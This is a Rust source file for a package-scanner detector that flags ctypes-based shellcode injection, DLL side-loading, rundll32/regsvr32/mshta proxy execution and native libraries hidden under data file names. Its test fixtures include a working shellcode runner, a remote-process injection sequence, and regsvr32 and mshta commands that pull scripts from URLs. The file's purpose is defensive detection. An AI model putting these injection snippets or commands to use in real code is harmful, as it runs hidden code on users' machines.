//! `execution.native-injection`: native code injection and proxy execution on
//! Windows, reached from Python through `ctypes`:
//!
//! - **shellcode runners and injectors**: Win32 memory and thread APIs by name
//!   (`VirtualAlloc(Ex)`, `VirtualProtect(Ex)`, `RtlMoveMemory`, `WriteProcessMemory`,
//!   `CreateRemoteThread`, `CreateThread`, `OpenProcess`, `QueueUserAPC`,
//!   `NtCreateThreadEx`, …) in a file that uses `ctypes` (`windll.kernel32`,
//!   `WinDLL("kernel32")`). Scored by the combination: allocate/protect + write + start
//!   a thread is Critical (that is running injected bytes), two of those steps High,
//!   one Medium. `LoadLibrary`/`GetProcAddress` alone are how bindings resolve
//!   functions and stay silent; ordinary bindings (`kernel32.GetConsoleMode`) never match.
//! - **DLL side-loading**: a file that writes a `.dll` and starts an `.exe` (a signed
//!   program that loads the planted library next to it): High.
//! - **proxy execution**: `rundll32`, `regsvr32`, `mshta` in a command — Medium, Critical
//!   with a remote or script payload (`/i:http…`, `scrobj.dll`, `javascript:`, a URL).
//! - **a native library under a data name**: `ctypes.CDLL`/`WinDLL`/`OleDLL`/`PyDLL`,
//!   `cdll.LoadLibrary` or `kernel32.LoadLibrary(Ex)(A|W)` of a path whose file name is a
//!   data, media, text or source name (`assets/logo.png`, `bin/helper.dat`, `x.py`): loading
//!   runs the library's initialisers, and a library that hides what it is from review is a
//!   payload (High). The path may be built inline (`os.path.join`, pathlib `/`) or through
//!   one name assigned in the file; library names (`.dll`, `.so`, `.so.6`, `.dylib`, `.pyd`,
//!   none) never match.
//!
//! Install time raises any hit to at least High; capped by place (`context`): tests/docs
//! Medium, data files Low. Python: API names count in code and expression strings
//! (`getattr(k32, "VirtualAlloc")`), never in comments or docstrings.

use super::context;
use super::pysrc::{self, Kind, MAX_HITS_PER_FILE};
use super::sinks::{self, SinkKind};
use crate::model::{Category, FileRole, Severity};
use crate::scan::detector::{Detector, DetectorMeta, Hit, Hits, Interest, TextFile};
use regex::Regex;
use std::sync::LazyLock;

pub(crate) static META: DetectorMeta = DetectorMeta {
    id: "execution.native-injection",
    revision: 3,
    title: "Injects or side-loads native code.",
    category: Category::Execution,
    severity: Severity::High,
    description: "Allocating executable memory, writing bytes into it (or into another process) and starting a thread there runs code no scanner saw; rundll32/regsvr32/mshta and planted DLLs run it through trusted programs.",
};

/// The steps of an injection.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
enum Step {
    /// Make memory executable: allocate or change protection.
    Alloc,
    /// Copy bytes into it (or into another process).
    Write,
    /// Run them: a (remote) thread or an APC.
    Thread,
    /// Open another process.
    Open,
}

/// The Win32 names of the injection steps (one capture group per step).
const WIN_NAMES: &str = r"(?:(?P<alloc>VirtualAlloc(?:Ex)?|VirtualProtect(?:Ex)?|NtAllocateVirtualMemory|HeapCreate)|(?P<write>WriteProcessMemory|RtlMoveMemory|RtlCopyMemory|NtWriteVirtualMemory)|(?P<thread>CreateRemoteThread(?:Ex)?|CreateThread|NtCreateThreadEx|QueueUserAPC|SetThreadContext|RtlCreateUserThread|EnumSystemLocalesA)|(?P<open>OpenProcess))";
// Whole names only (`CreateThreadEvent` is not `CreateThread`), and calls only: a binding
// table (`_VirtualAlloc = kernel32.VirtualAlloc`, `("CreateThread", INFO)`) injects nothing.
static WIN_API: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(&format!(r"(?-u:\b){WIN_NAMES}(?-u:\b)\s*\(")).expect("win api"));
/// The same names fetched by string: `getattr(kernel32, "VirtualAlloc")`.
static WIN_API_GETATTR: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(&format!(r#"(?-u:\b)getattr\s*\(\s*[\w.]+\s*,\s*['"]{WIN_NAMES}['"]"#)).expect("win api getattr")
});
static CTYPES: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?i)(?-u:\b)(?:ctypes|windll|WinDLL|kernel32|ntdll)(?-u:\b)").expect("ctypes"));
static LOLBIN: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?i)(?-u:\b)(?:rundll32|regsvr32|mshta)(?:\.exe)?(?-u:\b)").expect("lolbin"));
/// A remote or script payload on the same line as a proxy-execution binary.
static REMOTE_PAYLOAD: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?i)https?:|/i:|scrobj\.dll|javascript:|vbscript:|\\\\[\w.-]+\\").expect("payload"));
/// A `.dll` written: `open(... .dll ..., 'wb')`, a copy or download to a `.dll` path.
static DLL_WRITE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?i)(?:open\s*\([^\n]{0,200}?\.dll['"][^\n]{0,60}?['"]wb?['"]|(?:shutil\.copy\w*|urlretrieve|write_bytes)\s*\([^\n]{0,200}?\.dll['"])"#)
        .expect("dll write")
});
static EXE_ARG: LazyLock<Regex> = LazyLock::new(|| Regex::new(r#"(?i)\.exe['"\s]"#).expect("exe"));
/// A native library loaded through ctypes (the call's name, then its argument).
static LIB_LOAD: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?-u:\b)(?:CDLL|WinDLL|OleDLL|PyDLL|LoadLibrary(?:Ex)?[AW]?)\s*\(").expect("lib load")
});
/// The file name at the end of a string literal's path: `'bin/helper.dat'` → `helper.dat`.
static LITERAL_FILE: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r#"['"](?:[^'"\n]*[/\\])?(?P<f>[^'"/\\\n]*)['"]"#).expect("literal file"));
/// A bare name in an argument (`CDLL(p)`, `CDLL(str(p))`), not an attribute or a call.
static ARG_NAME: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?:^|[(\[,\s])(?P<n>[A-Za-z_]\w*)\s*(?:[,)\]]|$)").expect("arg name"));
/// File name extensions of data, media, text and source files: a library loaded under one
/// hides what it is.
const DATA_EXT: &[&str] = &[
    "png", "jpg", "jpeg", "gif", "bmp", "ico", "svg", "webp", "wav", "mp3", "ogg", "mp4", "avi", "txt", "dat", "log",
    "tmp", "cfg", "ini", "conf", "json", "xml", "yaml", "yml", "csv", "db", "sqlite", "pdf", "doc", "docx", "xls",
    "zip", "gz", "tar", "ttf", "otf", "woff", "css", "js", "html", "htm", "md", "rst", "py", "pyc", "pyo", "pkl",
    "npy", "bak", "old", "cache", "pem", "key", "lic",
];

pub(crate) struct NativeInjection;

impl NativeInjection {
    fn injection(
        &self,
        file: &TextFile<'_>,
        hits: &mut Hits,
        push: &mut dyn FnMut(&mut Hits, usize, String, Severity),
    ) {
        let src = file.source();
        // Python reaching the Win32 API through ctypes. C/C++ sources shipped in a package (a
        // debugger's attach helper) are not run by installing or importing it.
        if !src.python {
            return;
        }
        let live = |o: usize| matches!(src.kind_at(o), Kind::Code | Kind::Str);
        if !CTYPES.find_iter(file.text).any(|m| live(m.start())) {
            return;
        }
        let mut found: Vec<(usize, &str, Step)> = Vec::new();
        let called = WIN_API.captures_iter(file.text).map(|c| (c, false));
        let fetched = WIN_API_GETATTR.captures_iter(file.text).map(|c| (c, true));
        for (c, by_name) in called.chain(fetched) {
            let m = ["alloc", "write", "thread", "open"].iter().find_map(|g| c.name(g)).expect("one step");
            let at = if by_name { c.get(0).expect("m").start() } else { m.start() };
            if src.kind_at(at) != Kind::Code || pysrc::is_definition(file.text, m.start()) {
                continue;
            }
            let step = match () {
                _ if c.name("alloc").is_some() => Step::Alloc,
                _ if c.name("write").is_some() => Step::Write,
                _ if c.name("thread").is_some() => Step::Thread,
                _ => Step::Open,
            };
            found.push((m.start(), m.as_str(), step));
        }
        found.sort_by_key(|f| f.0);
        let Some(&(first, _, _)) = found.first() else {
            return;
        };
        let mut steps: Vec<Step> = found.iter().map(|f| f.2).collect();
        steps.sort();
        steps.dedup();
        let has = |s: Step| steps.contains(&s);
        let core = [Step::Alloc, Step::Write, Step::Thread].iter().filter(|&&s| has(s)).count();
        let remote = has(Step::Open) && has(Step::Write) && has(Step::Thread);
        let sev = match (core, remote) {
            (3, _) | (_, true) => Severity::Critical,
            (2, _) => Severity::High,
            _ if has(Step::Open) && core == 0 => return, // OpenProcess alone: process tools (psutil-like)
            _ => Severity::Medium,
        };
        let mut uniq: Vec<&str> = Vec::new();
        for (_, name, _) in &found {
            if !uniq.contains(name) {
                uniq.push(name);
            }
        }
        push(hits, first, format!("ctypes {}", uniq.join(" + ")), sev);
    }

    fn side_loading(
        &self,
        file: &TextFile<'_>,
        hits: &mut Hits,
        push: &mut dyn FnMut(&mut Hits, usize, String, Severity),
    ) {
        let src = file.source();
        if !src.python {
            return;
        }
        let Some(w) = DLL_WRITE.find_iter(file.text).find(|m| src.is_code(m.start())) else {
            return;
        };
        let runs_exe = sinks::find(src, &[SinkKind::Process]).iter().any(|s| {
            s.name.ends_with("startfile")
                || EXE_ARG.is_match(pysrc::call_argument(file.text, s.offset + s.name.len() + 1, 400))
        });
        if runs_exe {
            push(hits, w.start(), "writes a .dll then starts an .exe".to_string(), Severity::High);
        }
    }

    /// A ctypes load of a path whose file name is a data name ([`DATA_EXT`]): the path's
    /// last string literal, inline or in the one assignment of a bare name the call is handed.
    fn disguised_library(
        &self,
        file: &TextFile<'_>,
        hits: &mut Hits,
        push: &mut dyn FnMut(&mut Hits, usize, String, Severity),
    ) {
        let src = file.source();
        if !src.python {
            return;
        }
        let t = file.text;
        // Each name's assignments are looked up once (a pass over the member), and at most
        // [`MAX_NAMES_FOLLOWED`] names per member: a member of thousands of loads of names
        // costs a few passes, not one per load.
        let mut followed: std::collections::HashMap<&str, Option<&str>> = std::collections::HashMap::new();
        for m in LIB_LOAD.find_iter(t) {
            if !src.is_code(m.start()) || pysrc::is_definition(t, m.start()) {
                continue;
            }
            let arg = pysrc::call_argument(t, m.end(), 400);
            let mut name = last_file_name(arg);
            if name.is_none() {
                // One level through names: `p = os.path.join(d, 'x.dat')` … `CDLL(p)`.
                name = ARG_NAME.captures_iter(arg).filter_map(|c| c.name("n")).find_map(|n| {
                    let n = n.as_str();
                    if let Some(known) = followed.get(n) {
                        return *known;
                    }
                    if followed.len() >= MAX_NAMES_FOLLOWED {
                        return None;
                    }
                    let found =
                        assigned(t, n).find_map(|(at, rhs)| src.is_code(at).then(|| last_file_name(rhs)).flatten());
                    followed.insert(n, found);
                    found
                });
            }
            let Some(f) = name else { continue };
            let call = m.as_str().trim_end_matches('(').trim_end();
            push(hits, m.start(), format!("{call} of a data file ({f})"), Severity::High);
        }
    }

    fn proxy_execution(
        &self,
        file: &TextFile<'_>,
        hits: &mut Hits,
        push: &mut dyn FnMut(&mut Hits, usize, String, Severity),
    ) {
        let src = file.source();
        for m in LOLBIN.find_iter(file.text) {
            if src.python && src.kind_at(m.start()) != Kind::Str {
                continue;
            }
            let line = pysrc::snippet_in(file.source(), m.start());
            let sev = if REMOTE_PAYLOAD.is_match(&line) { Severity::Critical } else { Severity::Medium };
            push(hits, m.start(), m.as_str().to_ascii_lowercase(), sev);
        }
    }
}

impl Detector for NativeInjection {
    fn meta(&self) -> &'static DetectorMeta {
        &META
    }
    fn interest(&self) -> Interest {
        Interest::Literals(&[
            "VirtualAlloc",
            "VirtualProtect",
            "NtAllocateVirtualMemory",
            "WriteProcessMemory",
            "RtlMoveMemory",
            "CreateRemoteThread",
            "CreateThread",
            "QueueUserAPC",
            "HeapCreate",
            ".dll",
            "rundll32",
            "regsvr32",
            "mshta",
            "RUNDLL32",
            "REGSVR32",
            "MSHTA",
            // A native library under a data name ([`LIB_LOAD`]).
            "CDLL",
            "WinDLL",
            "OleDLL",
            "PyDLL",
            "LoadLibrary",
        ])
    }
    fn scan_text(&self, file: &TextFile<'_>, hits: &mut Hits) {
        // Type stubs (`.pyi`) declare the Win32 API; they never run.
        if file.role == FileRole::Metadata || file.path.ends_with(".pyi") {
            return;
        }
        let install = file.role == FileRole::InstallTime;
        let mut n = 0;
        let mut push = |hits: &mut Hits, off: usize, ind: String, sev: Severity| {
            if n >= MAX_HITS_PER_FILE {
                return;
            }
            n += 1;
            let sev = if install { sev.max(Severity::High) } else { sev };
            let sev = context::cap(file, sev);
            hits.push(&META, Hit { severity: Some(sev), evidence: pysrc::evidence(file, off, ind) });
        };
        self.injection(file, hits, &mut push);
        self.side_loading(file, hits, &mut push);
        self.disguised_library(file, hits, &mut push);
        self.proxy_execution(file, hits, &mut push);
    }
}

/// The right-hand sides of `name = …` lines (any indentation; not `==`), with where each line's code starts.
fn assigned<'t>(text: &'t str, name: &'t str) -> impl Iterator<Item = (usize, &'t str)> + 't {
    let mut at = 0;
    text.split_inclusive('\n').filter_map(move |line| {
        let start = at;
        at += line.len();
        let body = line.trim_start_matches([' ', '\t']);
        let rest = body.strip_prefix(name)?.trim_start_matches([' ', '\t']);
        let rhs = rest.strip_prefix('=').filter(|r| !r.starts_with('='))?;
        Some((start + line.len() - body.len(), rhs.trim_end()))
    })
}

/// The file name of the last string literal in `expr` when its extension is a data name
/// ([`DATA_EXT`]); library names (`x.dll`, `libc.so.6`, `kernel32`) give `None`.
/// How many distinct names one member's library loads are followed to their assignments.
const MAX_NAMES_FOLLOWED: usize = 64;

fn last_file_name(expr: &str) -> Option<&str> {
    let f = LITERAL_FILE.captures_iter(expr).filter_map(|c| c.name("f")).last()?.as_str();
    let (_, ext) = f.rsplit_once('.')?;
    DATA_EXT.iter().any(|e| ext.eq_ignore_ascii_case(e)).then_some(f)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::scan::detectors::testutil::table;
    use FileRole::*;
    use Severity::*;

    const RUNNER: &str = "import ctypes\nk32 = ctypes.windll.kernel32\nbuf = bytearray(SC)\nptr = k32.VirtualAlloc(0, len(buf), 0x3000, 0x40)\nk32.RtlMoveMemory(ptr, (ctypes.c_char * len(buf)).from_buffer(buf), len(buf))\nh = k32.CreateThread(0, 0, ptr, 0, 0, 0)\nk32.WaitForSingleObject(h, -1)\n";
    const REMOTE: &str = "from ctypes import *\nk = WinDLL('kernel32')\nh = k.OpenProcess(0x1F0FFF, False, pid)\na = k.VirtualAllocEx(h, 0, n, 0x3000, 0x40)\nk.WriteProcessMemory(h, a, sc, n, 0)\nk.CreateRemoteThread(h, None, 0, a, None, 0, None)\n";

    #[test]
    fn cases() {
        table(
            &NativeInjection,
            META.id,
            &[
                ("shellcode runner", "pkg/__init__.py", Runtime, RUNNER, Some((4, "ctypes VirtualAlloc + RtlMoveMemory + CreateThread", Critical))),
                ("remote injection", "pkg/inj.py", Runtime, REMOTE, Some((3, "ctypes OpenProcess + VirtualAllocEx + WriteProcessMemory + CreateRemoteThread", Critical))),
                (
                    "names resolved through getattr strings",
                    "pkg/a.py",
                    Runtime,
                    "import ctypes\nk = ctypes.windll.kernel32\nalloc = getattr(k, 'VirtualAlloc')\nmove = getattr(k, 'RtlMoveMemory')\n",
                    Some((3, "ctypes VirtualAlloc + RtlMoveMemory", High)),
                ),
                (
                    "one step in a JIT-like helper",
                    "pkg/jit.py",
                    Runtime,
                    "import ctypes\nkernel32 = ctypes.windll.kernel32\nmem = kernel32.VirtualAlloc(None, size, 0x3000, 0x40)\n",
                    Some((3, "ctypes VirtualAlloc", Medium)),
                ),
                ("runner in setup.py", "setup.py", InstallTime, RUNNER, Some((4, "ctypes VirtualAlloc + RtlMoveMemory + CreateThread", Critical))),
                ("runner in tests is capped", "pkg/tests/test_mem.py", TestOrDocs, RUNNER, Some((4, "ctypes VirtualAlloc + RtlMoveMemory + CreateThread", Medium))),
                (
                    "dll planted next to a signed exe",
                    "pkg/a.py",
                    Runtime,
                    "import os, subprocess\nd = os.path.join(os.environ['APPDATA'], 'Updater')\nopen(os.path.join(d, 'version.dll'), 'wb').write(blob)\nsubprocess.Popen([os.path.join(d, 'Updater.exe')])\n",
                    Some((3, "writes a .dll then starts an .exe", High)),
                ),
                (
                    "regsvr32 scriptlet from a URL",
                    "pkg/a.py",
                    Runtime,
                    "os.system('regsvr32 /s /n /u /i:http://example.org/x.sct scrobj.dll')\n",
                    Some((1, "regsvr32", Critical)),
                ),
                (
                    "rundll32 in setup.py",
                    "setup.py",
                    InstallTime,
                    "import subprocess\nsubprocess.call(['rundll32.exe', p + ',Start'])\n",
                    Some((2, "rundll32.exe", High)),
                ),
                ("mshta javascript", "pkg/run.bat", Other, "mshta javascript:a=GetObject(\"script:http://x/y\")\n", Some((1, "mshta", High))),
                (
                    "console-mode binding (pywin32-style)",
                    "pkg/console.py",
                    Runtime,
                    "import ctypes\nkernel32 = ctypes.windll.kernel32\nh = kernel32.GetStdHandle(-11)\nkernel32.GetConsoleMode(h, ctypes.byref(mode))\nkernel32.SetConsoleMode(h, mode.value | 4)\n",
                    None,
                ),
                (
                    "LoadLibrary and GetProcAddress binding",
                    "pkg/_win.py",
                    Runtime,
                    "import ctypes\nlib = ctypes.windll.kernel32.LoadLibraryW('x.dll')\nf = ctypes.windll.kernel32.GetProcAddress(lib, b'Init')\n",
                    None,
                ),
                ("OpenProcess alone (process tool)", "pkg/proc.py", Runtime, "import ctypes\nh = ctypes.windll.kernel32.OpenProcess(0x1000, False, pid)\n", None),
                ("api named in a docstring", "pkg/a.py", Runtime, "\"\"\"Unlike VirtualAlloc + CreateThread, this is safe.\"\"\"\nimport ctypes\n", None),
                ("type stub declaring the api", "pkg/_winapi.pyi", Runtime, "import ctypes\nVirtualAlloc: Incomplete\nRtlMoveMemory: Incomplete\n", None),
                ("api names without ctypes (a C header listing)", "pkg/api.txt", Other, "VirtualAlloc\nCreateThread\nRtlMoveMemory\n", None),
                ("dll copied, no exe started", "pkg/a.py", Runtime, "shutil.copy(src, 'lib/foo.dll')\n", None),
                ("regsvr32 in a comment", "pkg/a.py", Runtime, "# register with regsvr32 foo.dll\nx = 1\n", None),
                (
                    "ELF under an image name loaded with CDLL",
                    "pkg/__init__.py",
                    Runtime,
                    "import ctypes, pathlib\n_lib = ctypes.CDLL(str(pathlib.Path(__file__).parent / 'assets' / 'logo.png'))\n",
                    Some((2, "CDLL of a data file (logo.png)", High)),
                ),
                (
                    "LoadLibraryW of a .dat path through a name",
                    "pkg/__init__.py",
                    Runtime,
                    "import ctypes, os\nk32 = ctypes.WinDLL('kernel32')\np = os.path.join(os.path.dirname(__file__), 'bin', 'helper.dat')\nh = k32.LoadLibraryW(p)\n",
                    Some((4, "LoadLibraryW of a data file (helper.dat)", High)),
                ),
                (
                    "cdll.LoadLibrary of a .txt in setup.py",
                    "setup.py",
                    InstallTime,
                    "import ctypes\nctypes.cdll.LoadLibrary('./build/notes.txt')\n",
                    Some((2, "LoadLibrary of a data file (notes.txt)", High)),
                ),
                ("the package's own .so by path", "pkg/_lib.py", Runtime, "import ctypes, os\n_lib = ctypes.CDLL(os.path.join(os.path.dirname(__file__), 'libfoo.so'))\n", None),
                ("a versioned system library", "pkg/_lib.py", Runtime, "import ctypes\nlibc = ctypes.CDLL('libc.so.6')\n", None),
                ("a library found by name", "pkg/_lib.py", Runtime, "import ctypes, ctypes.util\nlib = ctypes.CDLL(ctypes.util.find_library('ssl'))\n", None),
                ("a Windows system dll without extension", "pkg/_win.py", Runtime, "import ctypes\nk = ctypes.WinDLL('kernel32', use_last_error=True)\n", None),
                ("a macOS framework", "pkg/_mac.py", Runtime, "import ctypes\nappkit = ctypes.cdll.LoadLibrary('/System/Library/Frameworks/AppKit.framework/AppKit')\n", None),
                ("a dll path through a name", "pkg/_win.py", Runtime, "import ctypes, os\np = os.path.join(here, 'vendor', 'foo64.dll')\nlib = ctypes.WinDLL(p)\n", None),
                ("a data file opened, not loaded", "pkg/a.py", Runtime, "import ctypes\nlib = ctypes.CDLL('libfoo.so')\ndata = open('logo.png', 'rb').read()\n", None),
            ],
        );
    }
}
